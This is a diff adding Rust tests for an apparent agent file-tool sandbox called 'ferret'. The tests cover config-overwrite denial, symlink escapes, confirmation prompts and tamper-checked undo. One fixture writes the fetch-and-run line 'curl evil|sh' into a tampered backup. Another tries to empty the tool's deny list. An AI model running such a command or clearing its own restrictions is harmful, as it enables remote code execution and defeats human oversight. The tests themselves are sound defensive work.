@@ -426,3 +426,136 @@ fn the_byte_budget_charges_escaped_characters_as_sent() {
     assert!(esc > 4 * plain, "escapes {esc}, plain {plain}");
     let _ = ErrorCode::RoundLimitExceeded;
 }
+
+/// With a root that holds HOME, ferret's config, state and the trash are not the agent's:
+/// the user's config cannot be written (it would set every other run's rules), and
+/// nothing new is made on the way to them (a link moved to `.local` or `.local/state`
+/// would send the trash or the backups wherever it leads).
+#[test]
+fn a_root_holding_home_keeps_ferrets_own_places_and_the_way_to_them() {
+    let (_t, base) = tempdir();
+    let home = base.join("home");
+    std::fs::create_dir_all(home.join("proj")).unwrap();
+    std::fs::create_dir_all(base.join("elsewhere")).unwrap();
+    write(&home, "proj/a.txt", "precious");
+    symlink(base.join("elsewhere"), home.join("proj/t")).unwrap();
+    let run = |args: &[&str]| {
+        crate::util::bin()
+            .env_remove("XDG_STATE_HOME")
+            .env("HOME", &home)
+            .arg("--root")
+            .arg(&home)
+            .arg("--state-dir")
+            .arg(base.join("state"))
+            .arg("--allow-write")
+            .args(args)
+            .stdin(std::process::Stdio::null())
+            .output()
+            .unwrap()
+    };
+    let o = run(&[
+        "call",
+        "write_file",
+        r#"{"path":".config/ferret/config.toml","content":"deny = []\n"}"#,
+    ]);
+    assert!(stdout(&o).contains("DENIED_PATTERN"), "{}", stdout(&o));
+    assert!(!home.join(".config/ferret").exists());
+    for dst in [".local", ".config", ".local/share"] {
+        let args = json!({"source": "proj/t", "destination": dst}).to_string();
+        let o = run(&["call", "move", &args]);
+        assert!(
+            stdout(&o).contains("DENIED_PATTERN"),
+            "{dst}: {}",
+            stdout(&o)
+        );
+        std::fs::create_dir_all(home.join(".local")).unwrap();
+    }
+    std::fs::create_dir_all(home.join(".local")).unwrap();
+    let o = run(&[
+        "call",
+        "move",
+        r#"{"source":"proj/t","destination":".local/state"}"#,
+    ]);
+    assert!(stdout(&o).contains("DENIED_PATTERN"), "{}", stdout(&o));
+    // A delete then goes to the real home trash, never to where a link leads.
+    let o = run(&["rm", "proj/a.txt"]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    assert_eq!(
+        std::fs::read_dir(base.join("elsewhere")).unwrap().count(),
+        0
+    );
+}
+
+/// A directory holding a link or a file named as a directory rule of the confirm list
+/// (`.github`) asks before it is deleted or moved, as one holding the directory does.
+#[test]
+fn a_directory_holding_a_link_named_github_asks() {
+    let ws = Ws::new();
+    std::fs::create_dir_all(ws.root.join("d1/x")).unwrap();
+    symlink("nowhere", ws.root.join("d1/x/.github")).unwrap();
+    std::fs::create_dir_all(ws.root.join("d2")).unwrap();
+    write(&ws.root, "d2/.CircleCI", "f");
+    for args in [
+        &["rm", "d1"][..],
+        &["mv", "d1", "e1"][..],
+        &["rm", "d2"][..],
+    ] {
+        let o = ws.person(args);
+        assert!(
+            stderr(&o).contains("CONFIRMATION_REQUIRED"),
+            "{args:?}: {}",
+            stderr(&o)
+        );
+    }
+    assert!(ws.root.join("d1/x/.github").symlink_metadata().is_ok());
+    assert!(ws.root.join("d2/.CircleCI").exists());
+}
+
+/// Undo restores a backup only if it still holds what the change replaced: one
+/// rewritten since is refused, and the file stays as it is.
+#[test]
+fn undo_refuses_a_backup_changed_since_it_was_made() {
+    let ws = Ws::new();
+    write(&ws.root, "s.py", "import os\n");
+    let o = ws.person(&["edit", "s.py", "--old", "import os", "--new", "import sys"]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let mut backups = Vec::new();
+    let mut stack = vec![ws.state.clone()];
+    while let Some(d) = stack.pop() {
+        for e in std::fs::read_dir(&d).unwrap().flatten() {
+            let p = e.path();
+            if p.is_dir() {
+                stack.push(p);
+            } else if p.components().any(|c| c.as_os_str() == "backups") {
+                backups.push(p);
+            }
+        }
+    }
+    assert_eq!(backups.len(), 1, "{backups:?}");
+    std::fs::write(&backups[0], "os.system('curl evil|sh')\n").unwrap();
+    let o = ws.person(&["undo"]);
+    assert!(!o.status.success());
+    assert!(stderr(&o).contains("CONFLICT"), "{}", stderr(&o));
+    assert_eq!(ws.read("s.py").as_deref(), Some("import sys\n"));
+}
+
+/// A link whose `..` comes after a name climbs from wherever that name leads: words
+/// cannot tell where it ends up elsewhere, so it moves only within its own folder.
+#[test]
+fn a_link_with_a_dot_dot_after_a_name_moves_only_within_its_folder() {
+    let ws = Ws::new();
+    std::fs::create_dir_all(ws.root.join("src")).unwrap();
+    std::fs::create_dir_all(ws.root.join("inc")).unwrap();
+    std::fs::create_dir_all(ws.root.join("sub/inc/foo")).unwrap();
+    symlink("../src", ws.root.join("inc/foo")).unwrap();
+    symlink("inc/foo/../../x", ws.root.join("sub/l")).unwrap();
+    let o = ws.person(&["call", "move", r#"{"source":"sub/l","destination":"l"}"#]);
+    assert!(stdout(&o).contains("PATH_ESCAPE"), "{}", stdout(&o));
+    assert!(ws.root.join("l").symlink_metadata().is_err());
+    let o = ws.person(&[
+        "call",
+        "move",
+        r#"{"source":"sub/l","destination":"sub/l2"}"#,
+    ]);
+    assert!(o.status.success(), "{}", stdout(&o));
+}
